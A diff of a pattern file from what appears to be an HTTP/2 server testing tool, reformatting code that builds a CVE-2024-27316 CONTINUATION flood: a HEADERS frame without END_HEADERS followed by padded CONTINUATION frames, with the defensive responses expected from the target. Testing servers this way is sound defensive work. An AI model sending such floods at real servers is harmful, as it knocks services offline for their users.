@@ -18,7 +18,7 @@ export default definePattern({
   cve: 'CVE-2024-27316',
   year: 2024,
   summary: 'HEADERS without END_HEADERS, then full CONTINUATION frames of header fields, never ending the block',
-  expected: 'GOAWAY ENHANCE_YOUR_CALM, or 431 / RST_STREAM for the stream, once the block passes the target\'s limits (§10.5, §10.5.1)',
+  expected: "GOAWAY ENHANCE_YOUR_CALM, or 431 / RST_STREAM for the stream, once the block passes the target's limits (§10.5, §10.5.1)",
   rfc: 'RFC 9113 §6.10, §10.5, §10.5.1',
   defaults: { frames: 2_000 },
   scaled: ['frames'],
@@ -26,7 +26,10 @@ export default definePattern({
     const e = new Engagement(ctx, 'CONTINUATION frames', p.frames);
     const peer = await e.open({ handshake: true });
     if (peer !== null) {
-      const head = headersFrame(1, requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), { endStream: true, endHeaders: false });
+      const head = headersFrame(1, requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), {
+        endStream: true,
+        endHeaders: false,
+      });
       const field = encodeHeaderBlock([['x-flood', 'c'.repeat(FILLER_VALUE_BYTES)]]);
       const fragment = Buffer.concat(Array.from({ length: Math.floor(peer.settings.maxFrameSize / field.length) }, () => field));
       const cont = continuationFrame(1, fragment, false);
